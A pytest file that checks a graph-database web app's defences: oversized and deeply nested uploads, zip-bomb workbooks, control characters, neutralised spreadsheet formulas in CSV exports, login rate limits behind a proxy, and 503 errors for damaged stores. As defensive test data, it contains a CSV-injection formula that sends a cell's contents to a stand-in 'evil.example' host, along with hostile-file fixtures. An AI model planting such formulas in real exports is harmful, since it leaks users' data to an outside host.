"""The web app's edges: hostile and deep inputs answer 4xx in the error shape,
no file we write runs a formula, control characters are refused with the
model's message, sign-in behind a trusted proxy cannot be turned into a
lockout, and a broken store answers 503 ``store_unavailable``."""
from __future__ import annotations

import csv
import io
import logging
import os
import sqlite3
import stat
import zipfile

import pytest

from auth_helpers import PASSWORD, make_accounts
from graphsvc.model import Actor, Tie
from graphsvc.stores.sqlite import SQLiteStore
from hostile_files import a1_and_xfd, zip_bomb
from ingest_support import formula_cells
from web_support import assert_error, bearer, make_app, sign_in, signed_in

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'



# --- 1 and 5: bounded reading, no 5xx -------------------------------------------------

def test_deeply_nested_json_body_is_413(client):
    body = "[" * 200_000 + "]" * 200_000
    r = client.post("/api/v1/introductions", headers={**bearer(client),
                                                      "Content-Type": "application/json"},
                    data=body)
    assert_error(r, 413, "too_large")
    assert r.get_json()["error"]["details"] == {"limit": "JSON_MAX_DEPTH"}


@pytest.mark.parametrize("field, name", [("actors", "deep.json"), ("graph", "deep.json")])
def test_deeply_nested_json_upload_is_413(client, field, name):
    data = ("[" * 200_000 + "]" * 200_000).encode()
    r = client.post("/api/v1/import", headers=bearer(client),
                    data={field: (io.BytesIO(data), name)})
    assert_error(r, 413, "too_large")


@pytest.mark.parametrize("build", [a1_and_xfd, zip_bomb], ids=["a1_xfd", "zip_bomb"])
def test_hostile_workbook_upload_is_413(client, store, tmp_path, build):
    before = store.version()
    path = build(tmp_path)
    r = client.post("/api/v1/import", headers=bearer(client),
                    data={"actors": (io.BytesIO(path.read_bytes()), "actors.xlsx")})
    assert_error(r, 413, "too_large")
    assert store.version() == before


def test_a_300_character_file_name_imports(client, store):
    name = "a" * 300 + ".csv"
    r = client.post("/api/v1/import", headers=bearer(client),
                    data={"actors": (io.BytesIO(b"id,name,kind,country\nlong,Long,cso,MX\n"),
                                     name)})
    assert r.status_code == 200, r.get_data(as_text=True)
    assert len(r.get_json()["files"]["actors"]) <= 120
    assert store.get_actor("long").name == "Long"


def test_upload_limit_is_a_setting(store, tmp_path):
    app = make_app(store, tmp_path / "graph.db", UPLOAD_MAX_MB=1)
    assert app.config["MAX_CONTENT_LENGTH"] == 1024 * 1024
    client = signed_in(app)
    r = client.post("/api/v1/import", headers=bearer(client),
                    data={"actors": (io.BytesIO(b"x" * (2 * 1024 * 1024)), "a.csv")})
    assert_error(r, 413, "too_large")


# --- 4: text is text ----------------------------------------------------------------

def test_control_characters_are_refused_with_the_models_message(client, store):
    r = client.post("/api/v1/import", headers=bearer(client),
                    data={"actors": (io.BytesIO(b"id,name,kind,country\nnul,Casa\x00Nul,cso,MX\n"),
                                     "a.csv")})
    assert_error(r, 422, "validation_failed")
    [problem] = r.get_json()["error"]["details"]
    assert problem["row"] == 2 and problem["column"] == "name"
    assert "control character (U+0000) at position 5" in problem["message"]
    assert store.get_actor("nul") is None
    r = client.post("/api/v1/introductions", headers=bearer(client), json={
        "from": "sinfronteras", "to": "isolated", "status": "proposed",
        "note": "line one\nline\x07two"})
    assert_error(r, 422, "validation_failed")
    assert "U+0007" in r.get_data(as_text=True)
    # tabs and line breaks stay allowed in a note
    r = client.post("/api/v1/introductions", headers=bearer(client), json={
        "from": "sinfronteras", "to": "isolated", "status": "proposed",
        "note": "line one\n\tline two"})
    assert r.status_code == 201


# --- 2: no formula runs from our files -----------------------------------------------

@pytest.fixture
def formula_app(tmp_path):
    store = SQLiteStore(tmp_path / "graph.db")
    store.upsert([Actor(id="evil", name=FORMULA, kind="cso", country="MX", city="+52 Tijuana",
                        description="@SUM(1+1)", issue_areas=["legal_aid"], visibility="public"),
                  Actor(id="ok", name="-Casa del Migrante", kind="shelter", country="MX",
                        visibility="public")],
                 [Tie(source="evil", target="ok", kind="formal", note="=1+1",
                      visibility="public")])
    app = make_app(store, tmp_path / "graph.db")
    yield app, store
    app.extensions["graphsvc.accounts"].close()
    store.close()


def test_no_csv_we_serve_holds_a_formula(formula_app, tmp_path):
    app, store = formula_app
    accounts = app.extensions["graphsvc.accounts"]
    accounts.create_user("admin1", PASSWORD, "admin", by="test")
    client = app.test_client()
    # a failed sign-in with a formula as the user name lands in the audit log
    page = client.get("/login").get_data(as_text=True)
    token = page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    client.post("/login", data={"username": "=HYPERLINK(1)", "password": "x" * 12,
                                "csrf_token": token})
    sign_in(client, "admin1")
    outputs = {
        "metrics.csv": client.get("/api/v1/metrics.csv").get_data(as_text=True),
        "audit.csv": client.get("/admin/audit.csv").get_data(as_text=True),
        "introductions.csv": client.get("/actors/ok/introductions.csv?mode=open")
        .get_data(as_text=True),
    }
    with zipfile.ZipFile(io.BytesIO(client.get("/export/csv").data)) as zf:
        for name in zf.namelist():
            outputs[name] = zf.read(name).decode("utf-8")
    # the rejected rows of a skip-invalid import
    app.config["IMPORT_REPORT_DIR"] = str(tmp_path / "rejected")
    bad = f'id,name,kind,country\nbad,"{FORMULA.replace(chr(34), chr(34) * 2)}",banco,MX\n'
    r = client.post("/api/v1/import", headers=bearer(client, "admin1"),
                    data={"actors": (io.BytesIO(bad.encode()), "a.csv"), "skip_invalid": "1"})
    outputs["rejected.csv"] = client.get(r.get_json()["rejected_csv"]).get_data(as_text=True)
    for name, text in outputs.items():
        assert text.strip(), name
        assert formula_cells(text) == [], name
    def cells(text):
        return {c for row in csv.reader(io.StringIO(text)) for c in row}

    assert "'=HYPERLINK(1)" in cells(outputs["audit.csv"])  # there, and neutralised
    assert "'" + FORMULA in cells(outputs["actors.csv"])
    assert "'" + FORMULA in cells(outputs["rejected.csv"])


def test_csv_export_round_trips_through_our_import(formula_app, tmp_path):
    app, store = formula_app
    client = signed_in(app, "admin")
    with zipfile.ZipFile(io.BytesIO(client.get("/export/csv").data)) as zf:
        zf.extractall(tmp_path / "out")
    other = SQLiteStore(tmp_path / "other.db")
    other_app = make_app(other, tmp_path / "other.db")
    c2 = signed_in(other_app, "admin")
    r = c2.post("/api/v1/import", headers=bearer(c2, "admin1"), data={
        "actors": (open(tmp_path / "out" / "actors.csv", "rb"), "actors.csv"),
        "ties": (open(tmp_path / "out" / "ties.csv", "rb"), "ties.csv")})
    assert r.status_code == 200, r.get_data(as_text=True)
    for actor_id in ("evil", "ok"):
        a, b = store.get_actor(actor_id), other.get_actor(actor_id)
        assert b is not None
        assert {k: v for k, v in a.to_record().items() if k != "source_ref"} == \
            {k: v for k, v in b.to_record().items() if k != "source_ref"}
    assert other.get_actor("evil").name == FORMULA
    assert [t.note for t in other.ties()] == ["=1+1"]
    other_app.extensions["graphsvc.accounts"].close()
    other.close()


# --- 3: sign-in behind a trusted proxy --------------------------------------------------

def _login(client, username, password, address):
    headers = {"X-Forwarded-For": address}
    page = client.get("/login", headers=headers).get_data(as_text=True)
    token = page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    return client.post("/login", headers=headers,
                       data={"username": username, "password": password,
                             "csrf_token": token})


def test_behind_a_trusted_proxy_others_failures_do_not_lock_the_admin_out(store, tmp_path):
    accounts = make_accounts(tmp_path / "graph.accounts.db")
    accounts.create_user("admin1", PASSWORD, "admin", by="test")
    app = make_app(store, tmp_path / "graph.db", accounts=accounts, TRUSTED_PROXIES=1)
    attacker = app.test_client()
    statuses = [_login(attacker, name, "a wrong password", "203.0.113.5").status_code
                for name in ["admin1"] * 6 + [f"user{i}" for i in range(20)]]
    # 5 per address and name, then 20 per address across names
    assert statuses == [401] * 5 + [429] + [401] * 15 + [429] * 5
    # the admin, from her own address through the same proxy, signs in
    r = _login(app.test_client(), "admin1", PASSWORD, "198.51.100.7")
    assert r.status_code == 302
    ips = {e.ip for e in accounts.audit_entries(action="login.failed")}
    assert ips == {"203.0.113.5"}  # the client's address, read from the proxy's header


def test_without_trusted_proxies_the_forwarded_header_is_ignored(store, tmp_path):
    accounts = make_accounts(tmp_path / "graph.accounts.db")
    accounts.create_user("admin1", PASSWORD, "admin", by="test")
    app = make_app(store, tmp_path / "graph.db", accounts=accounts)
    client = app.test_client()
    statuses = [_login(client, "admin1", "a wrong password", f"10.9.9.{i}").status_code
                for i in range(7)]  # a client cannot escape the limit by inventing addresses
    assert statuses == [401] * 5 + [429] * 2
    assert {e.ip for e in accounts.audit_entries(action="login.failed")} == {"127.0.0.1"}


# --- 6: a broken disk is a 503 ---------------------------------------------------------

def damage(path):
    """Overwrite the middle of a real SQLite file, as a failing disk would."""
    size = os.path.getsize(path)
    with open(path, "r+b") as fh:
        for offset in range(2 * 4096, size, 4096):
            fh.seek(offset + 8)
            fh.write(b"\xde\xad\xbe\xef" * 256)


@pytest.fixture
def big_store(tmp_path):
    """A store with enough pages that damage lands in its tables."""
    store = SQLiteStore(tmp_path / "graph.db")
    actors = [Actor(id=f"a{i}", name=f"Actor {i} " + "x" * 200, kind="cso", country="MX",
                    visibility="public") for i in range(400)]
    store.upsert(actors, [Tie(source=f"a{i}", target=f"a{i + 1}", kind="formal",
                              visibility="public") for i in range(399)])
    store.close()
    return tmp_path / "graph.db"


def _requests(client, headers):
    return [client.get("/api/v1/actors", headers=headers),
            client.get("/api/v1/metrics.csv", headers=headers),
            client.post("/api/v1/introductions", headers=headers,
                        json={"from": "a1", "to": "a5", "status": "proposed"}),
            client.post("/api/v1/import", headers=headers, data={
                "actors": (io.BytesIO(b"id,name,kind,country\nz,Z,cso,MX\n"), "a.csv")})]


def test_a_damaged_store_answers_503_and_logs(big_store, tmp_path, caplog):
    store = SQLiteStore(big_store)
    app = make_app(store, big_store)
    client = signed_in(app)
    headers = bearer(client)
    store.close()
    damage(big_store)
    with caplog.at_level(logging.ERROR, logger="graphsvc.web"):
        responses = _requests(client, headers)
    for r in responses:
        assert_error(r, 503, "store_unavailable")
        assert "Traceback" not in r.get_data(as_text=True)
    assert "damaged" in caplog.text and str(big_store) in caplog.text
    page = client.get("/actors")
    assert page.status_code == 503 and "Traceback" not in page.get_data(as_text=True)


def _read_only(path):
    for p in (path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")):
        if p.exists():
            p.chmod(stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
    path.parent.chmod(stat.S_IRUSR | stat.S_IXUSR)


@pytest.mark.parametrize("trouble", ["read_only", "full"])
def test_a_read_only_or_full_store_answers_503_to_writes(big_store, tmp_path, caplog,
                                                        trouble):
    store = SQLiteStore(big_store)
    app = make_app(store, big_store, ACCOUNTS_DB=str(tmp_path / "acc" / "a.db"))
    client = signed_in(app)
    headers = bearer(client)
    client.get("/api/v1/actors", headers=headers)  # this thread's connection is open
    conn = store._file.conn()
    if trouble == "read_only":
        _read_only(big_store)
        if os.geteuid() == 0:
            # root ignores permission bits; SQLite then says what it says for
            # a read-only file (SQLITE_READONLY)
            conn.execute("PRAGMA query_only = ON")
    else:
        # the disk is full: no page beyond those the file has (SQLITE_FULL)
        pages = conn.execute("PRAGMA page_count").fetchone()[0]
        conn.execute(f"PRAGMA max_page_count = {pages}")
    try:
        with caplog.at_level(logging.ERROR, logger="graphsvc.web"):
            r = client.get("/api/v1/actors", headers=headers)
            assert r.status_code == 200  # reads still work
            big = "id,name,kind,country,description\n" + "".join(
                f"n{i},New actor {i},cso,MX,{'y' * 2000}\n" for i in range(300))
            r = client.post("/api/v1/import", headers=headers, data={
                "actors": (io.BytesIO(big.encode()), "a.csv")})
        assert_error(r, 503, "store_unavailable")
        assert ("read-only" if trouble == "read_only" else "disk is full") in caplog.text
        assert "cannot rollback" not in caplog.text
        assert store.counts()["actors"] == 400  # nothing was written
    finally:
        big_store.parent.chmod(0o755)
        store.close()
        app.extensions["graphsvc.accounts"].close()


def test_sqlite_errors_never_reach_a_client_as_500(big_store):
    """A damaged accounts file too: the API answers 503, not 500."""
    store = SQLiteStore(big_store)
    accounts_path = big_store.with_name("acc.db")
    accounts = make_accounts(accounts_path)
    for _ in range(300):
        accounts.audit("test", "filler", None, {"pad": "z" * 200})
    accounts.create_user("editor1", PASSWORD, "editor", by="test")
    app = make_app(store, big_store, accounts=accounts)
    client = app.test_client()
    headers = bearer(client)
    accounts.close()
    damage(accounts_path)
    conn = sqlite3.connect(accounts_path)
    with pytest.raises(sqlite3.DatabaseError):
        conn.execute("PRAGMA integrity_check").fetchall()
        conn.execute("SELECT count(*) FROM audit").fetchall()
        raise sqlite3.DatabaseError("not damaged enough")  # pragma: no cover
    conn.close()
    r = client.get("/api/v1/actors", headers=headers)
    assert r.status_code in (401, 503), r.get_data(as_text=True)
    assert r.status_code != 500
